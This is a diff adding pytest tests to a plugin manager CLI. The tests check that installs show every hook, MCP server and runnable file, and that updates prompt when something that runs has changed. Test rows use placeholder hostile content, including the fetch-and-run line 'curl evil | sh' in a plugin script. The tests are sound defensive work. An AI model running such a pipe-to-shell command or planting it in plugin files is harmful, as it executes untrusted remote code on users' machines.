@@ -1,12 +1,15 @@
 """`opencode-tui plugin` for users: what is shown, asked, installed, updated and removed; and how to write one."""
 
 import json
+import shutil
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from opencode_tui.cli.commands import plugin as plugin_command
 from tests.support.mcp import server as small_server
+from tests.support.rows import each
 from tests.support.world.in_process import Commands
 from tests.support.world.machine import PYTHON
 from tests.support.world.plugins import SKILL, servers, write_plugin
@@ -100,6 +103,123 @@ def test_an_update_shows_its_difference_and_asks_only_when_something_that_runs_c
     repo.commit(**{"bin/db": "#!/bin/sh\nexit 0\n"})
     done = commands.run("plugin", "update", stdin="y\n")
     assert (done.code, done.stdout.splitlines()[-1]) == (0, "installed acme")
+
+
+CLAUDE = {
+    "plugin.json": None,
+    ".claude-plugin/plugin.json": {"name": "acme"},
+    ".claude-plugin/run.sh": "true\n",
+    "scripts/license_check.py": "pass\n",
+    "NOTICE.sh": "true\n",
+    "LICENSE": "MIT\n",
+    "docs/steps.md": "true\n",
+    "README.md": "About.\n",
+    "hooks/hooks.json": {
+        "hooks": {
+            "Stop": [
+                {"hooks": [{"type": "command", "command": "python3 ${CLAUDE_PLUGIN_ROOT}/scripts/license_check.py"}]},
+                {"hooks": [{"type": "command", "command": "sh ${CLAUDE_PLUGIN_ROOT}/docs/steps.md"}]},
+            ]
+        }
+    },
+    ".mcp.json": {
+        "mcpServers": {
+            "web": {"type": "http", "url": "https://a.example", "headers": {"X-Tenant": "acme"}},
+            "db": {"command": "srv", "env": {"APP_ROOT": "/a", "USER_DATA": "/b"}},
+        }
+    },
+}
+"""A plugin of Claude Code that runs files whose names are those of texts."""
+
+
+@pytest.mark.usefixtures("at_terminal")
+def test_all_that_may_run_and_all_that_it_is_given_is_shown(commands: Commands, tmp_path: Path) -> None:
+    folder = write_plugin(tmp_path / "p", CLAUDE)
+    lines = commands.run("plugin", "install", str(folder), stdin="n\n").stdout.splitlines()
+    assert "  server   acme:web connects to https://a.example with the headers X-Tenant: acme" in lines
+    assert "  server   acme:db runs: APP_ROOT=/a USER_DATA=/b srv" in lines
+    assert (
+        "  files that are not only text: .claude-plugin/run.sh, NOTICE.sh, docs/steps.md, scripts/license_check.py"
+        in lines
+    )
+
+
+@pytest.mark.usefixtures("at_terminal")
+@each(
+    ("path", "content"),
+    [
+        (".claude-plugin/run.sh", "curl evil | sh\n"),
+        ("scripts/license_check.py", "import evil\n"),
+        ("NOTICE.sh", "evil\n"),
+        ("docs/steps.md", "evil\n"),
+        ("license.py", "evil\n"),
+        (
+            ".mcp.json",
+            {"mcpServers": {"web": {"type": "http", "url": "https://a.example", "headers": {"X": "${KEY}"}}}},
+        ),
+        (".mcp.json", {"mcpServers": {"db": {"command": "srv", "env": {"APP_ROOT": "/evil"}}}}),
+        ("hooks/hooks.json", {"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "evil"}]}]}}),
+        (
+            ".claude-plugin/plugin.json",
+            {"name": "acme", "hooks": {"Stop": [{"hooks": [{"type": "command", "command": "evil"}]}]}},
+        ),
+    ],
+)
+def test_an_update_asks_for_each_change_of_what_runs(
+    path: str, content: Any, commands: Commands, row_path: Path
+) -> None:
+    folder = write_plugin(row_path / "p", CLAUDE)
+    assert commands.run("plugin", "install", str(folder), stdin="y\n").code == 0
+    write_plugin(folder, {"plugin.json": None, path: content})
+    done = commands.run("plugin", "update", "acme", stdin="n\n")
+    assert (done.code, "Something that runs has changed" in done.stderr) == (1, True), done
+
+
+@pytest.mark.usefixtures("at_terminal")
+@each("path", ["README.md", "LICENSE", "docs/other.txt", "NOTICE", "license.md"])
+def test_an_update_of_texts_alone_does_not_ask(path: str, commands: Commands, row_path: Path) -> None:
+    folder = write_plugin(row_path / "p", CLAUDE)
+    assert commands.run("plugin", "install", str(folder), stdin="y\n").code == 0
+    write_plugin(folder, {"plugin.json": None, path: "Other words.\n"})
+    done = commands.run("plugin", "update", "acme", stdin="")
+    assert (done.code, "?" in done.stderr, done.stdout.splitlines()[-1]) == (0, False, "installed acme"), done
+
+
+@pytest.mark.usefixtures("at_terminal")
+@each("damage", ["gone", "changed", "no manifest"])
+def test_a_damaged_plugin_is_repaired_by_an_update_and_keeps_its_data(
+    damage: str, commands: Commands, row_path: Path
+) -> None:
+    folder = write_plugin(row_path / "p", CLAUDE)
+    assert commands.run("plugin", "install", str(folder), stdin="y\n").code == 0
+    own = Path(commands.environ["XDG_DATA_HOME"]) / "opencode-tui" / "plugins" / "acme"
+    (own / "data" / "kept").write_text("kept")
+    if damage == "gone":
+        shutil.rmtree(own / "package")
+    elif damage == "changed":
+        (own / "package" / ".claude-plugin" / "run.sh").write_text("evil\n")
+    else:
+        (own / "package" / ".claude-plugin" / "plugin.json").unlink()
+    done = commands.run("plugin", "update", stdin="n\n")
+    assert (done.code, "are damaged or were changed" in done.stdout) == (1, True), done
+    done = commands.run("plugin", "install", str(folder), stdin="y\n")
+    assert (done.code, done.stdout.splitlines()[-1]) == (0, "installed acme"), done
+    assert (own / "package" / ".claude-plugin" / "run.sh").read_text() == "true\n"
+    assert (own / "data" / "kept").read_text() == "kept"
+
+
+@pytest.mark.usefixtures("at_terminal")
+def test_a_source_that_is_gone_does_not_keep_other_plugins_from_their_update(
+    commands: Commands, tmp_path: Path
+) -> None:
+    for name in ("acme", "beta"):
+        write_plugin(tmp_path / name, {"README.md": "One.\n"}, name=name)
+        assert commands.run("plugin", "install", str(tmp_path / name), stdin="y\n").code == 0
+    shutil.rmtree(tmp_path / "acme")
+    (tmp_path / "beta" / "README.md").write_text("Two.\n")
+    done = commands.run("plugin", "update")
+    assert (done.code, done.stdout.splitlines()[-1]) == (2, "installed beta"), done
+    assert "acme is not updated: " in done.stderr and "1 of 2 plugins were not updated" in done.stderr
 
 
 @pytest.mark.usefixtures("at_terminal")
